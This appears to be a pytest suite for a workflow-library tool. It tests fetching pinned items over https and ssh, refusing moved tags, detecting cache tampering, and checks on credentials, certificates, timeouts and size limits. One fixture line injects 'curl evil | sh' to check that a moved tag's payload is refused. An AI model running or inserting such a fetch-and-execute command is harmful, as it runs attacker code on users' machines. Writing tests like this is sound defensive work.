"""Items fetched over https and ssh from real servers: git http-backend behind TLS, and sshd."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from perfflow.model.errors import Exit, UserError
from perfflow.trees import remote
from tests.library.servers import PASSWORD, SSHD, USER, has_http_backend, https, silent, ssh
from tests.library.team import COMMAND, LIMITS, WORDS, Team
from tests.repositories import git

needs_https = pytest.mark.skipif(not has_http_backend(), reason="no git http-backend, or no openssl")
needs_ssh = pytest.mark.skipif(not SSHD, reason="no sshd: apt-get install openssh-server")


@pytest.fixture
def team(tmp_path: Path) -> Team:
    """A team whose projects have their own git configuration."""
    team = Team(tmp_path)
    (tmp_path / "home").mkdir()
    team.env |= {"HOME": str(tmp_path / "home"), "GIT_CONFIG_NOSYSTEM": "1"}
    return team


def configure(team: Team, key: str, value: str) -> None:
    git(team.top, "config", "--file", f"{team.env['HOME']}/.gitconfig", key, value)


@pytest.fixture
def address(team: Team, tmp_path: Path) -> Iterator[str]:
    """The https server for the folder with the team's repository."""
    with https(tmp_path, tmp_path) as (address, certificate):
        team.env["GIT_SSL_CAINFO"] = str(certificate)
        yield address


@needs_https
def test_over_https(team: Team, address: str) -> None:
    folder = f"localhost-{address.rpartition(':')[2]}/team"
    walk(team, lambda revision, path: f"git+{address}/team@{revision}#{path}", folder)


@needs_https
def test_the_short_form_where_its_host_is_a_mirror(team: Team, address: str) -> None:
    configure(team, f"url.{address}/.insteadOf", "https://github.com/acme/")
    walk(team, lambda revision, path: f"acme/team/{path.removesuffix('.yaml')}@{revision}", "github.com/acme/team")


@needs_ssh
def test_over_ssh(team: Team) -> None:
    with ssh(team.top / "sshd") as (address, config):
        configure(team, "core.sshCommand", f"ssh -F {config}")
        place = f"{address}{team.folder}"
        folder = f"{address.partition('@')[2].replace(':', '-')}{team.folder}"
        walk(team, lambda revision, path: f"git+{place}@{revision}#{path}", folder)


@needs_ssh
def test_a_commit_that_only_the_lock_remembers(team: Team) -> None:
    """A plain ssh server sends the commits of branches and tags, with their history, and nothing else."""
    root = team.project("one")
    with ssh(team.top / "sshd") as (address, config):
        configure(team, "core.sshCommand", f"ssh -F {config}")
        assert (
            team.run("library", "add", f"git+{address}{team.folder}@main#parts/limits.yaml", cwd=root).returncode == 0
        )
        shutil.rmtree(team.top / "cache")
        git(team.folder, "commit", "--amend", "-qm", "another")
        git(team.folder, "tag", "-f", "v1")
        done = team.run("library", "add", cwd=root)
        assert (done.returncode, "no branch and no tag has it" in done.stderr) == (3, True), done.stderr
        assert "give it a tag there" in done.stderr
        git(team.folder, "branch", "old", "HEAD@{1}")
        assert team.run("library", "add", cwd=root).returncode == 0


def walk(team: Team, reference: Callable[[str, str], str], folder: str) -> None:
    """Pin, run, update, verify and vendor, as a user does. ``folder``: the folder of the copies."""
    tag, branch = reference("v1", "workflows/command.yaml"), reference("main", "parts/limits.yaml")
    root = team.project("one", f"[{branch}, {tag}]")
    added = team.run("library", "add", tag, branch, cwd=root)
    assert (added.returncode, "2 items pinned and fetched" in added.stdout) == (0, True), added.stderr
    assert "echo $# words" in added.stdout
    old = git(team.folder, "rev-parse", "HEAD").strip()
    items = json.loads(team.run("library", "list", "--json", cwd=root).stdout)["items"]
    assert {(item["kind"], item["commit"], item["state"]) for item in items} == {
        ("tag", old, "fetched"),
        ("branch", old, "fetched"),
    }
    _move(team, root, old)
    _tamper(team, root, tag)
    vendored = team.run("library", "vendor", cwd=root)
    assert vendored.returncode == 0, vendored.stderr
    assert (root / f"workflows/vendor/{folder}@v1/workflows/command.yaml").read_text() == COMMAND
    assert "concern: 3%" in (root / f"workflows/vendor/{folder}@main/parts/limits.yaml").read_text()
    # Without the server, the cache and the record of shown commands.
    for name in ("team", "cache", "state"):
        shutil.move(team.top / name, team.top / f"{name}-gone")
    ran = team.run("run", "own", "--budget=60s", "--progress=off", "--only=words", "--json", cwd=root)
    assert (ran.returncode, json.loads(ran.stdout)["benchmarks"][0]["name"]) == (0, "words"), ran.stderr
    assert team.run("library", "verify", cwd=root).returncode == 0
    unreachable = team.run("library", "update", cwd=root)
    assert (unreachable.returncode, "git must log in without a prompt" in unreachable.stderr) == (3, True)


def _move(team: Team, root: Path, old: str) -> None:
    """A branch that moved is followed, a tag that moved is not."""
    team.write("tools/words.yaml", WORDS.replace("echo $#", "curl evil | sh; echo $#"))
    team.write("parts/limits.yaml", LIMITS.replace("5%", "3%"))
    new = team.commit("v1")
    moved = team.run("library", "update", cwd=root)
    assert (moved.returncode, "the tag v1 was moved" in moved.stderr) == (1, True)
    assert f"{old[:12]} -> {new[:12]}, its files changed" in moved.stdout
    assert "concern: 3%" in moved.stdout
    assert "curl evil" not in moved.stdout
    assert team.run("library", "verify", cwd=root).returncode == 0


def _tamper(team: Team, root: Path, tag: str) -> None:
    """A changed byte in the cache stops a run. `add` restores the file by fetching the pinned commit."""
    items = json.loads(team.run("library", "list", "--json", cwd=root).stdout)["items"]
    words = next(Path(item["folder"], "tools/words.yaml") for item in items if item["kind"] == "tag")
    words.write_text(words.read_text().replace("echo", "Echo"))
    refused = team.run("run", "own", cwd=root)
    assert (refused.returncode, "tools/words.yaml was changed" in refused.stderr) == (2, True)
    assert team.run("library", "add", tag, cwd=root).returncode == 0
    assert words.read_text() == WORDS


@needs_https
def test_a_server_that_asks_for_a_password(team: Team, address: str) -> None:
    shutil.copytree(team.folder, team.top / "private/team")
    root = team.project("one")
    reference = f"git+{address}/private/team@v1#parts/limits.yaml"
    # Without a helper, git fails: it does not ask on the terminal.
    refused = team.run("library", "add", reference, cwd=root)
    assert refused.returncode == 3
    assert f"asking {address}/private/team for its tags and branches: " in refused.stderr
    assert "git must log in without a prompt: use a credential helper" in refused.stderr
    (team.top / "credentials").write_text(f"https://{USER}:{PASSWORD}@{address.partition('://')[2]}\n")
    configure(team, "credential.helper", f"store --file={team.top}/credentials")
    let_in = team.run("library", "add", reference, cwd=root)
    assert let_in.returncode == 0, let_in.stderr
    assert not [path for path in root.rglob("*") if path.is_file() and PASSWORD in path.read_text(errors="replace")]
    assert PASSWORD not in let_in.stdout + let_in.stderr


@needs_https
def test_a_certificate_that_nobody_vouches_for(team: Team, address: str) -> None:
    del team.env["GIT_SSL_CAINFO"]
    done = team.run("library", "add", f"git+{address}/team@v1#parts/limits.yaml", cwd=team.project("one"))
    assert (done.returncode, "certificate" in done.stderr) == (3, True), done.stderr


@needs_ssh
def test_ssh_that_is_not_let_in_asks_nobody(team: Team) -> None:
    root = team.project("one")
    with ssh(team.top / "sshd") as (address, config):
        reference = f"git+{address}{team.folder}@v1#parts/limits.yaml"
        text = config.read_text()
        for before, after, said in (
            ("sshd/user", "sshd/other", "Permission denied (publickey)"),
            ("sshd/known", "sshd/unknown", "Host key verification failed"),
        ):
            config.write_text(text.replace(before, after))
            configure(team, "core.sshCommand", f"ssh -F {config}")
            done = team.run("library", "add", reference, cwd=root)
            assert (done.returncode, said in done.stderr) == (3, True), done.stderr
            assert "ssh-agent" in done.stderr


def test_a_server_that_never_answers_is_left(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(remote, "LIMIT", 1.0)
    with silent() as (address, hung_up):
        with pytest.raises(UserError, match=r"asking .* took more than 1 s") as raised:
            remote.tip(f"{address}/o/r", "v1", tmp_path)
        assert raised.value.exit is Exit.UNMEASURED
        # No process that git started is left running.
        assert hung_up.wait(10)


@pytest.mark.long
def test_how_long_a_server_that_never_answers_is_waited_for(team: Team) -> None:
    with silent() as (address, _):
        began = time.monotonic()
        done = team.run("library", "add", f"git+{address}/o/r@v1#a", cwd=team.project("one"))
        waited = time.monotonic() - began
    assert (done.returncode, "took more than 120 s" in done.stderr) == (3, True), done.stderr
    assert waited >= remote.LIMIT


@needs_https
def test_a_repository_that_is_too_large_is_refused(
    team: Team, address: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(remote, "LARGEST", 2**20)
    monkeypatch.setenv("GIT_SSL_CAINFO", team.env["GIT_SSL_CAINFO"])
    commits = [_with_data(team, size) for size in (2**19, 2**21)]
    for url in (f"{address}/team", f"file://{team.folder}"):
        with remote.fetched(url, commits[0], tmp_path) as small:
            assert small.files["data.bin"].size == 2**19
        with pytest.raises(UserError, match="more than 1 MiB") as raised, remote.fetched(url, commits[1], tmp_path):
            pass
        assert raised.value.exit is Exit.USAGE


@pytest.mark.long
@needs_https
def test_what_is_too_large_as_a_user_sees_it(team: Team, address: str) -> None:
    _with_data(team, remote.LARGEST + 2**20)
    git(team.folder, "tag", "v2")
    root = team.project("one")
    for place in (address, f"file://{team.top}"):
        done = team.run("library", "add", f"git+{place}/team@v2#parts/limits.yaml", cwd=root)
        assert (done.returncode, "more than 128 MiB" in done.stderr) == (2, True), done.stderr
        assert "keep the workflows in a repository of their own" in done.stderr
    assert not (root / "perfflow.lock").exists()
    # The previous commit has nothing of it to send.
    assert team.run("library", "add", f"git+{address}/team@v1#parts/limits.yaml", cwd=root).returncode == 0


def _with_data(team: Team, size: int) -> str:
    (team.folder / "data.bin").write_bytes(os.urandom(size))
    git(team.folder, "-c", "core.compression=0", "add", "-A")
    return team.commit()


def test_a_few_objects_that_name_endless_files_are_refused(team: Team) -> None:
    blob = git(team.folder, "rev-parse", "HEAD:README.md").strip()
    entry = f"100644 blob {blob}"
    for _ in range(10):
        listing = "".join(f"{entry}\t{number}\n" for number in range(10))
        tree = _tree(team, listing)
        entry = f"040000 tree {tree}"
    commit = git(team.folder, "commit-tree", "-m", "many", tree).strip()
    git(team.folder, "tag", "many", commit)
    done = team.run("library", "add", team.reference("many", "a.yaml"), cwd=team.project("one"))
    assert (done.returncode, "more than 32 MiB" in done.stderr) == (2, True), done.stderr


def _tree(team: Team, listing: str) -> str:
    done = subprocess.run(["git", "mktree"], input=listing, cwd=team.folder, check=True, capture_output=True, text=True)
    return done.stdout.strip()
